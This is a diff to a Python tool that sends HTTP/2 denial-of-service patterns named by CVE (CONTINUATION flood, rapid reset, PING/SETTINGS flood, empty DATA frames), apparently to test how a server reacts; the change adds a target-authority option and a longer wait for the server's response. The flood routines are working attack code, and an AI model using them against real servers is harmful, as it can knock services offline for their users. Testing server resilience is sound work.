@@ -3,7 +3,9 @@
 
   continuation HOST PORT DIR MB   one HEADERS frame without END_HEADERS, then CONTINUATION frames of 16 KiB,
                                   up to MB mebibytes or 20 s (CVE-2024-30255 / -27316 class)
-  rapid-reset HOST PORT DIR N     N requests each reset at once (HEADERS + RST_STREAM), at most 20 s (CVE-2023-44487)
+  rapid-reset HOST PORT DIR N [AUTHORITY]
+                                  N requests for /slow?ms=3000 (to AUTHORITY, default backend), each reset at once
+                                  (HEADERS + RST_STREAM), at most 20 s (CVE-2023-44487)
   control HOST PORT DIR N KIND    N PING or SETTINGS frames (KIND ping|settings), never reading the acknowledgements the
                                   server queues (CVE-2019-9512 / -9515), at most 20 s
   empty-data HOST PORT DIR N      one stream, then N DATA frames with no payload (CVE-2019-9518), at most 20 s
@@ -67,6 +69,17 @@ def reaction(sock, conn):
         sock.setblocking(True)
 
 
+def awaited_reaction(sock, conn, seconds):
+    """The server's reaction once it has worked through what was sent (at most seconds): see reaction()."""
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        outcome = reaction(sock, conn)
+        if outcome:
+            return outcome
+        time.sleep(0.1)
+    return "nothing"
+
+
 def refused_at_handshake(what, error):
     """The server refused the connection before HTTP/2 (a TLS server that requires a client certificate)."""
     print("%s: sent 0.0 MiB in 0.0 s; server: closed at the handshake (%s)" % (what, type(error).__name__))
@@ -98,8 +111,7 @@ def continuation(host, port, certs, mebibytes):
             outcome = reaction(sock, conn)
             if outcome:
                 break
-    time.sleep(0.5)
-    outcome = outcome or reaction(sock, conn) or "nothing"
+    outcome = outcome or awaited_reaction(sock, conn, 5)
     print("continuation: sent %.1f MiB in %.1f s; server: %s" % (sent / 1048576, time.monotonic() - start, outcome))
 
 
@@ -112,13 +124,13 @@ def encode_int(n):
     return bytes(out)
 
 
-def rapid_reset(host, port, certs, count):
+def rapid_reset(host, port, certs, count, authority="backend"):
     try:
         sock, conn = connect(host, port, certs)
     except (ConnectionError, ssl.SSLError, OSError) as e:
         refused_at_handshake("rapid-reset", e)
         return
-    headers = [(":method", "GET"), (":scheme", "https"), (":path", "/slow"), (":authority", "backend")]
+    headers = [(":method", "GET"), (":scheme", "https"), (":path", "/slow?ms=3000"), (":authority", authority)]
     sent, start, outcome = 0, time.monotonic(), None
     while sent < count and time.monotonic() - start < 20:
         try:
@@ -137,8 +149,7 @@ def rapid_reset(host, port, certs, count):
         outcome = reaction(sock, conn)
         if outcome:
             break
-    time.sleep(0.5)
-    outcome = outcome or reaction(sock, conn) or "nothing"
+    outcome = outcome or awaited_reaction(sock, conn, 5)
     print("rapid-reset: sent %d HEADERS+RST_STREAM pairs in %.1f s; server: %s" % (sent, time.monotonic() - start, outcome))
 
 
@@ -163,8 +174,7 @@ def flood(what, host, port, certs, count, frame_of):
             outcome = reaction(sock, conn)
             if outcome:
                 break
-    time.sleep(0.5)
-    outcome = outcome or reaction(sock, conn) or "nothing"
+    outcome = outcome or awaited_reaction(sock, conn, 5)
     print("%s: sent %d frames in %.1f s; server: %s" % (what, sent, time.monotonic() - start, outcome))
 
 
@@ -193,5 +203,7 @@ if __name__ == "__main__":
         control(host, port, certs, amount, sys.argv[6])
     elif mode == "empty-data":
         empty_data(host, port, certs, amount)
+    elif mode == "rapid-reset":
+        rapid_reset(host, port, certs, amount, *sys.argv[6:7])
     else:
         {"continuation": continuation, "rapid-reset": rapid_reset}[mode](host, port, certs, amount)
